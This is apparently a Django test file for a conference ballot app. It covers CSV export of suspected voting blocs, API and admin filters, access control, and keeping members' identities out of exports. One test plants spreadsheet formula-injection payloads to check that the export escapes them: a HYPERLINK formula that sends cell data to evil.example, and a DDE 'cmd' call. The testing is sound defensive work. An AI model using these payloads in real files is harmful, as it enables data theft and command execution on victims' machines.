"""The organizers' review of blocs beyond deciding: the CSV export (admin action and API), the API's
`talk`, `track` and `q` filters with their 400s, the admin's track filter, evidence search and empty
state. Who may read what is tested with the data that could leak present."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from rest_framework.test import APIClient

from apps.ballots.bloc_csv import bloc_csv_cell
from apps.ballots.models import Bloc, BlocSpeakerLink
from apps.ballots.selectors.bloc_review import BLOC_ROW_FIELDS
from apps.ballots.services.blocs import bloc_decide, tally_with_blocs
from apps.talks.services import api_token_create
from tests.ballots.test_bloc_runs import seed_demo
from tests.factories import ConferenceFactory, TalkFactory, TrackFactory, UserFactory

pytestmark = pytest.mark.django_db

HEADER = [
    "bloc_id",
    "conference",
    "talk_id",
    "talk_title",
    "track",
    "direction",
    "status",
    "present",
    "size",
    "spared",
    "signals",
    "speaker_link",
    "evidence",
    "weight",
    "fair_share",
    "counts_as",
    "multiplier",
    "p_value",
    "score_before",
    "score_after",
    "rank_before",
    "rank_after",
    "decided_by",
    "decided_at",
    "reason",
    "first_detected_at",
    "last_detected_at",
]


def make_bloc(talk, *, key: str, members=(), sentences=("7 of the 8 voters from acme.example support it",), **fields):
    now = timezone.now()
    values = {
        "direction": "support",
        "size": max(len(members), 3),
        "weight": 3.0,
        "fair_share": 0.4,
        "counts_as": 1.73,
        "multiplier": 0.58,
        "p_value": 1e-6,
        "signals": ["colleagues"],
        "evidence": [{"signal": "colleagues", "sentence": s, "observed": 7, "expected": 0.4} for s in sentences],
        "rank_before": 3,
        "rank_after": 9,
        "score_before": 3.25,
        "score_after": 2.5,
        "first_detected_at": now,
        "last_detected_at": now,
        **fields,
    }
    bloc = Bloc.objects.create(conference=talk.conference, talk=talk, key=key, **values)
    bloc.members.set(members)
    return bloc


def token_client(conference) -> APIClient:
    _, key = api_token_create(conference=conference, user=UserFactory(is_staff=True), name="review")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


def export_url(conference) -> str:
    return reverse("api-bloc-export", args=[conference.slug])


def list_url(conference) -> str:
    return reverse("api-bloc-list", args=[conference.slug])


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    reader = csv.reader(io.StringIO(response.content.decode("utf-8")))
    header = next(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.fixture
def two_conferences():
    """Conference A with blocs on two tracks, conference B with a bloc of its own; the members have
    recognisable emails, so a leak of their identity would show in any answer."""
    a, b = ConferenceFactory(slug="conf-a"), ConferenceFactory(slug="conf-b")
    web, data = TrackFactory(conference=a, name="Web", slug="web"), TrackFactory(conference=a, name="Data", slug="data")
    members = [UserFactory(email=f"member{i}@acme.example", name=f"Member Person {i}") for i in range(4)]
    on_web = make_bloc(
        TalkFactory(conference=a, track=web, title="Fast Django views"),
        key="web",
        members=members,
        sentences=("4 of the 5 voters from acme.example support it; 0.4 expected", "24 votes in 6 hours"),
        signals=["colleagues", "burst"],
    )
    on_data = make_bloc(
        TalkFactory(conference=a, track=data, title="Columnar storage"),
        key="data",
        members=members[:3],
        sentences=("Ballots of 3 accounts are nearly identical, 100%_alike",),
        signals=["similar"],
        direction="oppose",
    )
    elsewhere = make_bloc(TalkFactory(conference=b, title="Another conference's talk"), key="b", members=members)
    return {"a": a, "b": b, "on_web": on_web, "on_data": on_data, "elsewhere": elsewhere, "members": members}


# --- the CSV export through the API ---------------------------------------------------------------


def test_the_export_holds_what_the_list_shows_for_every_bloc_of_a_real_detection():
    demo = seed_demo()
    tally_with_blocs(conference=demo)
    bloc = Bloc.objects.filter(conference=demo, direction="support").order_by("-size").first()
    client = token_client(demo)
    assert "burst" in bloc.signals
    assert bloc.pk in {int(r["bloc_id"]) for r in rows_of(client.get(export_url(demo), {"signal": "burst"}))}
    bloc_decide(bloc=bloc, status="dismissed", reason="A team outing, checked.", by=UserFactory(is_staff=True))
    listed = []
    page = list_url(demo) + "?page_size=200"
    while page:
        body = client.get(page).json()
        listed += body["results"]
        page = body["next"]
    response = client.get(export_url(demo))
    assert response["Content-Disposition"].startswith('attachment; filename="blocs-demo-')
    rows = rows_of(response)
    assert [int(r["bloc_id"]) for r in rows] == [b["id"] for b in listed] != []
    for row, shown in zip(rows, listed, strict=True):
        for field in ("talk", "size", "spared", "rank_before", "rank_after"):
            assert row[{"talk": "talk_id"}.get(field, field)] == ("" if shown[field] is None else str(shown[field]))
        for field in ("multiplier", "counts_as", "fair_share", "score_before", "score_after", "p_value"):
            assert float(row[field]) == shown[field]  # exact: nothing is rounded
        assert row["signals"].split("\n") == shown["signals"]
        assert row["evidence"].split("\n") == [e["sentence"] for e in shown["evidence"]]
        for field in ("status", "reason", "direction", "speaker_link"):
            assert row[field] == shown[field]
    dismissed = next(r for r in rows if int(r["bloc_id"]) == bloc.pk)
    bloc.refresh_from_db()
    assert dismissed["decided_by"] == bloc.decided_by.email and dismissed["reason"] == "A team outing, checked."
    assert dismissed["decided_at"] == bloc.decided_at.isoformat() and dismissed["decided_at"].endswith("+00:00")
    assert dismissed["talk_title"] == bloc.talk.title and float(dismissed["score_before"]) > 0
    # No member's identity: none of the members' emails, names or ids appears in the file.
    body = response.content.decode()
    members = {m for b in Bloc.objects.filter(conference=demo) for m in b.members.all()}
    assert members and not [m.email for m in members if m.email in body]
    assert not [m.name for m in members if m.name and m.name in body]
    # The same filters as the list.
    assert [int(r["bloc_id"]) for r in rows_of(client.get(export_url(demo), {"status": "dismissed"}))] == [bloc.pk]
    assert bloc.pk not in {int(r["bloc_id"]) for r in rows_of(client.get(export_url(demo), {"status": "detected"}))}


def test_only_the_conferences_organizers_may_export_its_blocs(two_conferences, client):
    a, b = two_conferences["a"], two_conferences["b"]
    assert APIClient().get(export_url(a)).status_code == 401
    attendee = APIClient()
    attendee.force_login(two_conferences["members"][0])
    refused = attendee.get(export_url(a))
    assert refused.status_code == 403 and refused["Content-Type"] == "application/json"
    assert refused.json()["error"]["status"] == 403
    other = token_client(b).get(export_url(a), HTTP_ACCEPT="text/csv")
    assert other.status_code == 403 and other.json()["error"]["code"] == "permission_denied"
    assert token_client(b).get(list_url(a)).status_code == 403  # as the list
    own = rows_of(token_client(a).get(export_url(a)))
    ids = {two_conferences["on_web"].pk, two_conferences["on_data"].pk}
    assert {int(r["bloc_id"]) for r in own} == ids and {r["conference"] for r in own} == {"conf-a"}
    staff = APIClient()
    staff.force_login(UserFactory(is_staff=True))
    assert {int(r["bloc_id"]) for r in rows_of(staff.get(export_url(a)))} == ids
    assert [int(r["bloc_id"]) for r in rows_of(staff.get(export_url(b)))] == [two_conferences["elsewhere"].pk]
    assert staff.get(reverse("api-bloc-export", args=["no-such-conference"])).status_code == 404
    # An organizer's client that asks for CSV only still gets it (and errors as JSON, above).
    assert len(rows_of(token_client(a).get(export_url(a), HTTP_ACCEPT="text/csv"))) == 2


def test_no_member_is_named_in_the_export(two_conferences):
    rows = rows_of(token_client(two_conferences["a"]).get(export_url(two_conferences["a"])))
    text = repr(rows)
    for member in two_conferences["members"]:
        assert member.email not in text and member.name not in text
    assert {r["spared"] for r in rows} == {"0"} and {r["size"] for r in rows} == {"4", "3"}


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(two_conferences):
    a = two_conferences["a"]
    bloc = two_conferences["on_web"]
    bloc.talk.title = '=HYPERLINK("http://evil.example?"&A1,"click")'
    bloc.talk.save()
    bloc.talk.track.name = "+Track"
    bloc.talk.track.save()
    bloc.evidence = [
        {"signal": "affiliation", "sentence": "@SUM(1+1) people from one organisation support it"},
        {"signal": "burst", "sentence": "-2+3 votes in 6 hours"},
    ]
    bloc.status, bloc.reason, bloc.decided_at = "dismissed", "\t=cmd|' /C calc'!A0", timezone.now()
    bloc.decided_by = UserFactory(email="-organizer@conf.example")
    bloc.save()
    plain = two_conferences["on_data"]
    plain.reason, plain.status, plain.decided_at = 'Checked, "a team", really; fine', "confirmed", timezone.now()
    plain.save()
    rows = {int(r["bloc_id"]): r for r in rows_of(token_client(a).get(export_url(a)))}
    hostile = rows[bloc.pk]
    assert hostile["talk_title"] == "'" + bloc.talk.title
    assert hostile["track"] == "'+Track"
    assert hostile["evidence"] == "'@SUM(1+1) people from one organisation support it\n-2+3 votes in 6 hours"
    assert hostile["reason"] == "'\t=cmd|' /C calc'!A0"
    assert hostile["decided_by"] == "'-organizer@conf.example"
    # Text that a spreadsheet would not run is left as it is, quotes and commas round-trip.
    assert rows[plain.pk]["reason"] == 'Checked, "a team", really; fine'
    assert rows[plain.pk]["evidence"] == "Ballots of 3 accounts are nearly identical, 100%_alike"


def test_the_export_reads_the_same_number_of_queries_for_one_bloc_and_for_three(two_conferences):
    a = two_conferences["a"]
    client = token_client(a)
    Bloc.objects.filter(pk=two_conferences["on_data"].pk).delete()
    client.get(export_url(a))  # the token's first use of the minute records it: not counted below
    with CaptureQueriesContext(connection) as one:
        assert len(rows_of(client.get(export_url(a)))) == 1
    for n in range(2):
        make_bloc(TalkFactory(conference=a, track=TrackFactory(conference=a)), key=f"more-{n}", members=[UserFactory()])
    decided = Bloc.objects.filter(conference=a).last()
    bloc_decide(bloc=decided, status="confirmed", reason="Sockpuppets", by=UserFactory(is_staff=True))
    with CaptureQueriesContext(connection) as three:
        assert len(rows_of(client.get(export_url(a)))) == 3
    assert len(three) == len(one) == 3  # the token, the conference, the blocs with all they show


def test_numbers_are_written_exactly_and_a_negative_number_stays_a_number():
    assert bloc_csv_cell(-0.25) == "-0.25" and bloc_csv_cell(0.1 + 0.2) == "0.30000000000000004"
    assert bloc_csv_cell(None) == "" and bloc_csv_cell(True) == "true" and bloc_csv_cell(12) == "12"
    assert bloc_csv_cell("-0.25") == "'-0.25"  # text is text, whatever it looks like
    assert tuple(HEADER) == BLOC_ROW_FIELDS


# --- the list's filters -----------------------------------------------------------------------------


def test_the_list_and_the_export_filter_by_talk_track_and_text(two_conferences):
    a = two_conferences["a"]
    on_web, on_data = two_conferences["on_web"], two_conferences["on_data"]
    client = token_client(a)

    def ids(**params) -> set[int]:
        listed = client.get(list_url(a), params)
        assert listed.status_code == 200, listed.content
        exported = {int(r["bloc_id"]) for r in rows_of(client.get(export_url(a), params))}
        assert exported == {b["id"] for b in listed.json()["results"]}
        return exported

    assert ids() == {on_web.pk, on_data.pk}
    assert ids(talk=on_web.talk_id) == {on_web.pk}
    assert ids(talk=two_conferences["elsewhere"].talk_id) == set()  # another conference's talk
    assert ids(talk=2**62) == set()
    assert ids(track="data") == {on_data.pk} and ids(track="no-such-track") == set()
    assert ids(q="django") == {on_web.pk}  # the talk's title, any case
    assert ids(q="ACME.EXAMPLE") == {on_web.pk}  # an evidence sentence, any case
    assert ids(q="in 6 hours") == {on_web.pk}  # the second sentence counts too
    assert ids(q="nearly identical") == {on_data.pk}
    assert ids(q="100%_") == {on_data.pk}
    assert ids(q="%a") == set() and ids(q="s_a") == set()  # % and _ are themselves, not "any characters"
    assert ids(q="sentence") == set() and ids(q="observed") == set()  # not the evidence's JSON keys
    assert ids(q="   ") == {on_web.pk, on_data.pk}  # blank: no filter
    assert ids(present="") == ids(present="true") == {on_web.pk, on_data.pk} and ids(present="false") == set()
    assert ids(q="identical", direction="oppose", track="data", talk=on_data.talk_id) == {on_data.pk}
    assert ids(q="identical", track="web") == set()


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"talk": "abc"}, "talk"),
        ({"talk": "0"}, "talk"),
        ({"talk": "-3"}, "talk"),
        ({"talk": "1.5"}, "talk"),
        ({"talk": str(2**64)}, "talk"),
        ({"status": "approved"}, "status"),
        ({"signal": "coworkers"}, "signal"),
        ({"direction": "sideways"}, "direction"),
        ({"present": "maybe"}, "present"),
        ({"q": "x" * 201}, "q"),
        ({"q": "nul\x00byte"}, "q"),  # PostgreSQL text cannot hold it: a 400, not a 500
        ({"track": "t" * 65}, "track"),
        ({"speaker_link": "guessed"}, "speaker_link"),
    ],
)
def test_a_bad_filter_value_is_a_400_naming_the_parameter(two_conferences, params, field):
    client = token_client(two_conferences["a"])
    for url in (list_url(two_conferences["a"]), export_url(two_conferences["a"])):
        response = client.get(url, params)
        assert response.status_code == 400, (url, params, response.content)
        error = response.json()["error"]
        assert error["code"] == "invalid" and list(error["fields"]) == [field]
        assert error["fields"][field][0]


def test_the_schema_documents_the_export_and_the_filters(client):
    schema = client.get("/api/v1/schema/?format=json").json()
    export = schema["paths"]["/api/v1/conferences/{slug}/blocs/export.csv"]["get"]
    assert list(export["responses"]["200"]["content"]) == ["text/csv"]
    listing = schema["paths"]["/api/v1/conferences/{slug}/blocs/"]["get"]
    for operation in (export, listing):
        parameters = {p["name"]: p for p in operation["parameters"]}
        assert {"talk", "track", "q", "status", "signal", "direction", "present"} <= set(parameters)
        assert parameters["talk"]["schema"]["type"] == "integer" and parameters["q"]["description"]
    assert "page" not in {p["name"] for p in export["parameters"]}


# --- the admin ----------------------------------------------------------------------------------------


def test_the_admin_exports_the_selected_blocs_as_csv(two_conferences, staff_client):
    changelist = reverse("admin:ballots_bloc_changelist")
    assert "Export selected blocs as CSV" in staff_client.get(changelist).content.decode()
    chosen = [two_conferences["on_data"].pk, two_conferences["elsewhere"].pk]
    response = staff_client.post(changelist, {"action": "export_csv", "_selected_action": chosen})
    assert response["Content-Disposition"].startswith('attachment; filename="blocs-2')  # two conferences
    rows = rows_of(response)
    assert sorted(int(r["bloc_id"]) for r in rows) == sorted(chosen)
    assert {r["conference"] for r in rows} == {"conf-a", "conf-b"}
    text = response.content.decode()
    assert not [m.email for m in two_conferences["members"] if m.email in text]
    one = staff_client.post(changelist, {"action": "export_csv", "_selected_action": [chosen[0]]})
    assert one["Content-Disposition"].startswith('attachment; filename="blocs-conf-a-')
    # "Select all" on a searched list exports every bloc the search finds (here by an evidence sentence).
    every = {"action": "export_csv", "select_across": "1", "_selected_action": chosen}
    searched = rows_of(staff_client.post(changelist + "?q=in+6+hours", every))
    assert [int(r["bloc_id"]) for r in searched] == [two_conferences["on_web"].pk]


def test_an_organizer_who_may_only_view_blocs_may_export_them_and_others_may_not(two_conferences, client):
    changelist = reverse("admin:ballots_bloc_changelist")
    chosen = {"action": "export_csv", "_selected_action": [two_conferences["on_web"].pk]}
    stranger = UserFactory(is_staff=True)  # staff, but no permission on blocs
    client.force_login(stranger)
    assert client.get(changelist).status_code == 403
    assert client.post(changelist, chosen).status_code == 403
    viewer = UserFactory(is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_bloc"))
    client.force_login(viewer)
    listing = client.get(changelist).content.decode()
    assert "Export selected blocs as CSV" in listing and "Detect blocs again" not in listing
    assert [int(r["bloc_id"]) for r in rows_of(client.post(changelist, chosen))] == [two_conferences["on_web"].pk]


def test_the_admin_searches_the_evidence_and_filters_by_track(two_conferences, staff_client):
    changelist = reverse("admin:ballots_bloc_changelist")

    def listed(**params) -> set[int]:
        response = staff_client.get(changelist, params)
        assert response.status_code == 200
        return {b.pk for b in response.context["cl"].result_list}

    on_web, on_data = two_conferences["on_web"], two_conferences["on_data"]
    everything = {on_web.pk, on_data.pk, two_conferences["elsewhere"].pk}
    assert listed(q="in 6 hours") == {on_web.pk}  # a sentence, as typed
    assert listed(q="Columnar") == {on_data.pk}  # the title, as before
    page = staff_client.get(changelist).content.decode()
    assert "By talk&#x27;s track" in page
    assert ">Web<" in page and ">Data<" in page
    web = two_conferences["on_web"].talk.track
    assert listed(track=str(web.pk)) == {on_web.pk}
    assert listed(track="not-a-number") == everything  # a tampered value filters nothing, no 500
    assert listed(track="²") == everything  # a digit to str.isdigit, not to int()
    # Tracks of two conferences with a bloc each are told apart by their conference.
    TrackFactory(conference=two_conferences["b"], name="Web", slug="web")
    other = two_conferences["elsewhere"]
    other.talk.track = two_conferences["b"].tracks.get()
    other.talk.save()
    page = staff_client.get(changelist).content.decode()
    assert f"{two_conferences['a']} · Web" in page and f"{two_conferences['b']} · Web" in page
    only_a = staff_client.get(changelist, {"conference__id__exact": two_conferences["a"].pk}).content.decode()
    assert f"{two_conferences['b']} · Web" not in only_a and ">Web<" in only_a


def test_the_admin_shows_and_filters_how_a_group_is_linked_to_the_speaker(two_conferences, staff_client):
    """Receipts call a group colleagues of the speaker only on an exact link (round 39): the organizer sees the
    link on the bloc and can list the blocs whose link is only inferred, to check them first."""
    on_web, on_data = two_conferences["on_web"], two_conferences["on_data"]
    Bloc.objects.filter(pk=on_web.pk).update(speaker_link="inferred")
    Bloc.objects.filter(pk=on_data.pk).update(speaker_link="exact")
    changelist = reverse("admin:ballots_bloc_changelist")
    page = staff_client.get(changelist).content.decode()
    assert "By speaker link" in page
    inferred = staff_client.get(changelist, {"speaker_link__exact": "inferred"})
    assert {b.pk for b in inferred.context["cl"].result_list} == {on_web.pk}
    api = token_client(two_conferences["a"])
    assert [b["id"] for b in api.get(list_url(two_conferences["a"]), {"speaker_link": "exact"}).json()["results"]] == [
        on_data.pk
    ]
    assert [
        int(r["bloc_id"]) for r in rows_of(api.get(export_url(two_conferences["a"]), {"speaker_link": "inferred"}))
    ] == [on_web.pk]
    detail = staff_client.get(reverse("admin:ballots_bloc_change", args=[on_web.pk])).content.decode()
    assert "Speaker link" in detail
    assert escape(BlocSpeakerLink.INFERRED.label) in detail and escape(BlocSpeakerLink.EXACT.label) not in detail


def test_the_admin_says_when_no_bloc_is_found_and_when_none_matches(staff_client):
    changelist = reverse("admin:ballots_bloc_changelist")
    talk = TalkFactory()
    empty = staff_client.get(changelist).content.decode()
    assert "No bloc has been found" in empty and "No bloc matches" not in empty
    make_bloc(talk, key="one")
    page = staff_client.get(changelist).content.decode()
    assert "No bloc has been found" not in page and "No bloc matches" not in page
    searched = staff_client.get(changelist, {"q": "nothing like this"}).content.decode()
    assert "No bloc matches this search" in searched and "show all 1 bloc<" in searched
    filtered = staff_client.get(changelist, {"status__exact": "dismissed"}).content.decode()
    assert "No bloc matches these filters" in filtered
